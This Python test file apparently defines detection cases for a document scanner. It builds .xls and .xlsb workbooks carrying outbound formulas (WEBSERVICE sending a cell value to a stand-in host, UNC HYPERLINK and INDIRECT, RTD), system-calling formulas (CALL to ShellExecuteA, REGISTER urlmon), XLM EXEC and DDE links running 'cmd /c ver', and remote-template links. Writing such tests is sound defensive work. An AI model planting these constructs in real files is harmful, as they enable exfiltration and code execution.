"""Workbooks whose formulas and links are compiled: old binary ones and binary packages."""

from tests.samples.compiled_formulas import (
    BY_NAME,
    CALL,
    EXEC,
    HYPERLINK,
    INDIRECT,
    JOIN,
    MACRO_SHEET,
    NARROW,
    REGISTER,
    RTD,
    WIDE,
    xls,
    xlsb,
)
from tests.samples.documents import package
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM = Severity.HIGH, Severity.MEDIUM
HOST = "files.example.net"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def cases() -> list[Case]:
    """Formulas that reach out, macros that act, and links, in both binary formats."""
    return [*_formulas(), *_macros(), *_links()]


def _formulas() -> list[Case]:
    found = []
    for ending, compiler, book in (("xls", NARROW, xls), ("xlsb", WIDE, xlsb)):
        text, call = compiler.text, compiler.call
        fetch = call(BY_NAME, compiler.name(2), text(f"https://{HOST}/?v=") + compiler.cell() + JOIN)
        reaching = [
            book(fetch, names=["Rate", "_xlfn.WEBSERVICE"]),
            book(call(HYPERLINK, text(f"\\\\{HOST}\\s\\a.exe"), text("Open"))),
            book(call(HYPERLINK, compiler.spelled(f"\\\\{HOST}\\s"), text("Open"))),
            book(call(INDIRECT, text(f"'\\\\{HOST}\\s\\[a.xls]S'!A1"))),
            book(call(RTD, text("feed.server"), text(HOST), text("rate"))),
        ]
        found += [
            single("office: compiled formula that reaches out", f"Prices {n}.{ending}", one, "office.formula")
            for n, one in enumerate(reaching)
        ]
        acting = [call(CALL, text("shell32"), text("ShellExecuteA"), text("JJC"), text("ver")), call(REGISTER, text("urlmon"), text("a"))]
        found += [
            single("office: compiled formula that calls the system", f"Costs {n}.{ending}", book(one), "office.formula", least=HIGH)
            for n, one in enumerate(acting)
        ]
    asked = f'{XML}<worksheet><c><f>RTD("feed.server","{HOST}","rate")</f></c></worksheet>'.encode()
    found.append(
        single("office: formula that reaches out", "Feed.xlsx", package("xlsx", {"xl/worksheets/sheet1.xml": asked}), "office.formula")
    )
    return found


def _macros() -> list[Case]:
    books = [
        ("Form.xls", xls(NARROW.call(EXEC, NARROW.spelled("cmd /c ver")), on=MACRO_SHEET)),
        ("Form.xlsb", xlsb(WIDE.call(EXEC, WIDE.spelled("cmd /c ver")), on=MACRO_SHEET)),
        ("Form2.xls", xls(NARROW.call(CALL, NARROW.cell(), NARROW.cell()), on=MACRO_SHEET)),
        ("Form2.xlsb", xlsb(WIDE.call(CALL, WIDE.cell(), WIDE.cell()), on=MACRO_SHEET)),
    ]
    return [single("office: macros of old Excel that act", name, body, "office.xlm", least=HIGH) for name, body in books]


def _links() -> list[Case]:
    return [
        single("office: exchange with a command", "Stock.xlsb", xlsb(WIDE.number(1), link=("cmd", "/c ver")), "office.dde", least=HIGH),
        single(
            "office: workbook linked on a share", "Stock.xls", xls(supporting=[f"\x01\x01@{HOST}\x03s\x03b.xls"]), "office.remote-template"
        ),
        single(
            "office: workbook linked on a share",
            "Stock2.xls",
            xls(supporting=[f"\x01\x05\x1bfile://{HOST}/s/b.xls"]),
            "office.remote-template",
        ),
    ]
